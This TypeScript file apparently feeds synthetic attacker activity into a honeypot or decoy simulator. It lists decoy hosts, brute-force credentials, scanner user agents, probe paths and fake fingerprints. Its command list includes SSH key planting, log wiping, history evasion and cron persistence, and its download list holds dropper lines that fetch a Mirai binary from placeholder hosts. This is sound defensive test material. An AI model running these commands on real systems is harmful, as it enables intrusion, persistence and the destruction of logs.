/** What the made attackers meet and say: decoys, services, credentials, commands, clients. */

/** A decoy and the services that it pretends to run. */
export interface Decoy {
  readonly name: string;
  readonly ip: string;
  readonly services: readonly string[];
}

/** The port on which each service listens. */
export const PORTS: Readonly<Record<string, number>> = {
  ssh: 22,
  telnet: 23,
  ftp: 21,
  smtp: 25,
  http: 80,
  https: 443,
  mysql: 3306,
  postgres: 5432,
  redis: 6379,
  rdp: 3389,
  vnc: 5900,
  elasticsearch: 9200,
  docker_api: 2375,
  mongodb: 27017,
};

/** A small fleet, in which every service stands more than once. */
export const DECOYS: readonly Decoy[] = [
  ["decky-web-01", ["http", "https", "ssh"]],
  ["decky-web-02", ["http", "https", "ssh", "ftp"]],
  ["decky-mail-01", ["smtp", "ssh"]],
  ["decky-mail-02", ["smtp", "http"]],
  ["decky-db-01", ["mysql", "postgres", "ssh"]],
  ["decky-db-02", ["redis", "mongodb", "mysql", "ssh"]],
  ["decky-files-01", ["ftp", "ssh", "telnet"]],
  ["decky-win-01", ["rdp", "vnc", "http"]],
  ["decky-win-02", ["rdp", "ftp"]],
  ["decky-iot-01", ["telnet", "http"]],
  ["decky-iot-02", ["telnet", "ssh"]],
  ["decky-search-01", ["elasticsearch", "http", "ssh"]],
  ["decky-build-01", ["docker_api", "ssh", "redis"]],
  ["decky-jump-01", ["ssh"]],
].map(([name, services], index) => ({
  name: name as string,
  ip: `192.0.2.${index + 10}`,
  services: services as string[],
}));

/** Services at which passwords are tried. */
export const LOGIN_SERVICES: readonly string[] = [
  "ssh",
  "telnet",
  "ftp",
  "mysql",
  "rdp",
  "postgres",
];

/** The decoys that run `service`. */
export function decoysWith(service: string): readonly Decoy[] {
  return DECOYS.filter(({ services }) => services.includes(service));
}

/** User names that are tried everywhere. */
export const USERS: readonly string[] = [
  ...["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "pi", "deploy"],
  ...["ftpuser", "www", "guest", "support", "hadoop", "ro]ot", 'adm"in', "Administrator"],
];

/** Passwords that are tried everywhere; some hold what log formats must escape. */
export const PASSWORDS: readonly string[] = [
  ...["123456", "password", "admin", "root", "toor", "1234", "qwerty", "P@ssw0rd", "changeme"],
  ...["raspberry", "letmein", "=1+1", "@SUM(A1)", "pass word", 'a"b', "c:\\d", "x]y", "<b>hi</b>"],
  ...Array.from({ length: 60 }, (_, index) => `summer${1990 + index}!`),
];

/** What intruders type, in the order in which they come to it. */
export const COMMANDS: readonly string[] = [
  ...["id", "uname -a", "whoami", "w", "cat /etc/passwd", "ls -la", "ps aux", "ip addr"],
  ...["cat /proc/cpuinfo | grep name | wc -l", "free -m", "df -h", "crontab -l", "history"],
  ...["cat ~/.ssh/authorized_keys", "find / -perm -4000 -type f 2>/dev/null", "netstat -tulpn"],
  ...["echo 'ssh-rsa AAAAB3 mdrfckr' >> ~/.ssh/authorized_keys", 'sh -c "echo $HOME"'],
  ...["chmod 777 /tmp/x", "/tmp/x", "rm -rf /var/log/*", "unset HISTFILE", "passwd"],
  ...["(crontab -l; echo '* * * * * /tmp/x') | crontab -", "for i in [1-9]; do echo $i; done"],
];

/** Where droppers fetch from. */
export const DOWNLOADS: readonly string[] = [
  "wget http://198.51.100.99/x.sh -O /tmp/x",
  "curl -s http://198.51.100.77/bins/mirai.arm7 -o /tmp/x",
  "tftp -g -r bot.mips 203.0.113.50",
];

/** A web client: what it says it is, and the name of the tool that one may guess from that. */
export interface WebClient {
  readonly userAgent: string;
  readonly tool: string | undefined;
}

/** Clients of those who scan. */
export const SCAN_CLIENTS: readonly WebClient[] = [
  {
    userAgent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    tool: "nmap",
  },
  { userAgent: "Mozilla/5.0 zgrab/0.x", tool: "zgrab" },
  {
    userAgent: "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    tool: "nuclei",
  },
  { userAgent: "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", tool: "masscan" },
  { userAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)", tool: "sqlmap" },
  { userAgent: "python-requests/2.31.0", tool: "python-requests" },
  { userAgent: "curl/8.5.0", tool: "curl" },
  { userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", tool: undefined },
];

/** What scanners ask web servers for. */
export const PATHS: readonly string[] = [
  ...["/", "/.env", "/.git/config", "/wp-login.php", "/actuator/health", "/phpmyadmin/"],
  ...["/cgi-bin/luci/;stok=/locale?form=country", "/?q=<script>alert(1)</script>", "/a]b"],
];

/** How SSH clients name themselves, and their HASSH (made up; equal clients have equal ones). */
export const SSH_CLIENTS: readonly (readonly [banner: string, hassh: string])[] = [
  ["SSH-2.0-libssh2_1.10.0", "a7a87fbe86774c2e40cc4a7ea2ab1b3c"],
  ["SSH-2.0-Go", "98ddc5604ef6a1006a2b49a58759fbe6"],
  ["SSH-2.0-paramiko_2.12.0", "df8f5e0b4d3f1c9a7b1e6a5d4c3b2a10"],
  ["SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13", "aae6b9604f6f3356543709a376d7f657"],
  ["SSH-2.0-PUTTY", "6fac31b3f9a0b1c2d3e4f5061728394a"],
];

/** JA4 and JA3 of TLS clients (made up; equal clients have equal ones). */
export const TLS_CLIENTS: readonly (readonly [ja4: string, ja3: string])[] = [
  ["t13d1516h2_8daaf6152771_e5627efa2ab1", "cd08e31494f9531f560d64c695473da9"],
  ["t13d3112h2_e8f1e7e78f70_6bebaf5329ac", "0149f47eabf9a20d0893e2a44e5a6323"],
  ["t12d190800_d83cc789557e_7af1ed941c26", "19e29534fd49dd27d09234e639c4057e"],
  ["t13i190900_9dc949149365_97f8aa674fd9", "473cd7cb9faa642487833865d516e578"],
];

/** Domains whose people get unwanted mail. */
export const VICTIM_DOMAINS: readonly string[] = [
  ...[
    "contoso.com",
    "fabrikam.co.uk",
    "northwind.de",
    "tailspin.fr",
    "wingtip.org",
    "firma.xn--p1ai",
  ],
  ...["mail.contoso.com", "adatum.net", "litware.io"],
];

/** Domains that RFC 2606 and RFC 6761 reserve: relay tests, not victims. */
export const RESERVED_DOMAINS: readonly string[] = ["probe.test", "foo.example", "host.invalid"];
